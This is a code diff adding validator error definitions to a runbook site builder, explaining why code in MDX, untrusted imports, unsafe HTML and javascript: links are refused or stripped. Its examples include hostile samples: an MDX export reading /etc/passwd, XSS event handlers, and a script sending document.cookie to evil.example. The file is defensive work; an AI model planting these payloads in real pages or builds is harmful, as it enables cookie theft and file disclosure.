@@ -242,6 +242,83 @@ const formatErrors = {
     example: '<Command cluster="dr">\nkubectl get pods   (not inside a fenced code block)\n</Command>',
     fix: 'Follow the shape in the hint, for example wrap the command in a fenced ```sh block.',
   },
+  MdxCodeNotAllowed: {
+    title: 'Code in an MDX runbook',
+    severity: 'error',
+    message: (p: { what: string }) =>
+      `${capitalize(p.what)} would run as code when the site is built, and MDX runbooks are content unless the configuration allows code.`,
+    hint: (p: { hint?: string }) =>
+      `${p.hint ? `${p.hint} ` : ''}If every author of every runbook may run code in your builds, set \`mdx: { allowCode: true }\` in lifeboat.config.yaml.`,
+    description:
+      'An MDX file is a program: an `export`, an `{expression}` or an expression attribute runs with the rights of whoever builds the site, CI secrets included. Lifeboat reads MDX runbooks as content: Markdown, Lifeboat\'s components and imported components with plain attributes. `lifeboat build` refuses the runbook until it is content, or until `mdx.allowCode` is on.',
+    example: 'export const owner = (await import("node:fs")).readFileSync("/etc/passwd", "utf8");\n\nOwned by {owner}.',
+    fix: 'Write the value out as text, or as a plain attribute (`title="…"`, `{true}`, `{false}`). `{/* comments */}` are allowed.',
+  },
+  MdxImportNotAllowed: {
+    title: 'MDX import from a module that is not allowed',
+    severity: 'error',
+    message: (p: { specifier: string }) =>
+      `"${p.specifier}" is not in \`mdx.imports\`, and an import runs that module's code when the site is built.`,
+    hint: (p: { allowed: string }) =>
+      `MDX runbooks may import components from: ${p.allowed}. Add this module (or its folder, ending in "/") to \`mdx.imports\` in lifeboat.config.yaml if it is yours to trust.`,
+    description:
+      'Only the modules listed in `mdx.imports` (Starlight\'s components by default; files and folders relative to the configuration file) may be imported, with `import Name from "…"` or `import { Name } from "…"`. A side-effect import, a dynamic `import()` or an import of anything else runs code during the build.',
+    example: 'import fs from "node:fs";',
+    fix: 'Remove the import, or add the component module to `mdx.imports`.',
+  },
+  MdxImportNotFound: {
+    title: 'MDX import of a missing file',
+    severity: 'error',
+    message: (p: { specifier: string; detail: string }) => `"${p.specifier}" cannot be found: ${p.detail}, so the page cannot be built.`,
+    hint: () => 'Paths in imports are relative to the runbook file: check the number of "../" and the file name, extension included. A package must be installed in the project (`npm install`).',
+    description: 'A relative import must name an existing file, and a package import an installed package; `check` looks for them so that `build` does not fail on them later.',
+    example: "import OnCallNote from '../components/OnCallNot.astro';",
+    fix: 'Correct the path, or add the component.',
+  },
+  MdxImportUnknownName: {
+    title: 'MDX import of a name the module does not export',
+    severity: 'error',
+    message: (p: { specifier: string; name: string }) =>
+      p.name === 'default'
+        ? `"${p.specifier}" has no default export, so the page cannot be built.`
+        : `"${p.specifier}" does not export "${p.name}", so the page cannot be built.`,
+    hint: (p: { suggestion?: string; known: string }) => suggest(p.suggestion, p.known ? `It exports: ${p.known}.` : 'Import its default export: `import Name from "…"`.'),
+    description: 'Each name in an import must be one the module exports; `check` reads the module\'s exports without running it so that `build` does not fail later.',
+    example: "import { Asdie } from '@astrojs/starlight/components';",
+    fix: 'Correct the name (component names are case-sensitive).',
+  },
+  MdxUnsafeHtml: {
+    title: 'Unsafe HTML in an MDX runbook',
+    severity: 'error',
+    message: (p: { fragment: string }) =>
+      `\`${p.fragment}\` holds HTML or a link target that the site does not render from runbooks (scripts, event handlers, frames, \`javascript:\` and \`data:\` links).`,
+    hint: () =>
+      'Use Markdown, an allowed element (b, i, kbd, details, summary, table, …) without event handlers, or an http(s), mailto or relative link. To trust raw HTML, set `markdown: { allowHtml: true }` in lifeboat.config.yaml.',
+    description:
+      'HTML elements in MDX become part of the page as they are written, so they are held to the same allowlist as Markdown in YAML runbooks. YAML Markdown is cleaned on render (and `check` warns with RawHtmlRemoved); MDX is compiled as written, so the runbook is refused instead.',
+    example: '<details open ontoggle="alert(document.cookie)">…</details>',
+    fix: 'Remove the attribute or element, or write it as Markdown.',
+  },
+  RawHtmlRemoved: {
+    title: 'Raw HTML removed from Markdown',
+    severity: 'warning',
+    message: (p: { field: string; fragment: string }) =>
+      `The Markdown in ${p.field} holds \`${p.fragment}\`; the site renders Markdown without scripts, event handlers, frames and styles, so this is removed from the page, the offline edition and the binder.`,
+    hint: () => 'Write it as Markdown or with allowed elements (b, i, kbd, details, summary, table, …). If every runbook author is trusted, `markdown: { allowHtml: true }` in lifeboat.config.yaml renders raw HTML unchanged.',
+    description: 'Runbooks are often imported from elsewhere and the site is public, so Markdown is sanitized against an allowlist (GitHub\'s). The runbook still builds; the warning says what the reader will not see.',
+    example: 'steps:\n  - id: check\n    title: Check\n    body: <script>fetch("https://evil.example/?" + document.cookie)</script>',
+    fix: 'Remove the HTML, or rewrite it with Markdown or allowed elements.',
+  },
+  UnsafeLinkRemoved: {
+    title: 'Unsafe link target removed from Markdown',
+    severity: 'warning',
+    message: (p: { field: string; fragment: string }) =>
+      `The Markdown in ${p.field} links to \`${p.fragment}\`; only http, https, mailto and relative targets are kept, so the link is rendered without it.`,
+    hint: () => 'Link to an http(s) page instead; `javascript:` and `data:` targets run or show content chosen by whoever wrote the runbook.',
+    description: 'Link and image targets in Markdown are kept only for safe protocols. A `javascript:` link runs script when clicked, on the page and in the printed binder\'s link annotations.',
+    example: 'body: "[Open the dashboard](javascript:alert(document.domain))"',
+    fix: 'Use an https link.',
+  },
   FrontmatterMissing: {
     title: 'MDX runbook has no frontmatter',
     severity: 'error',
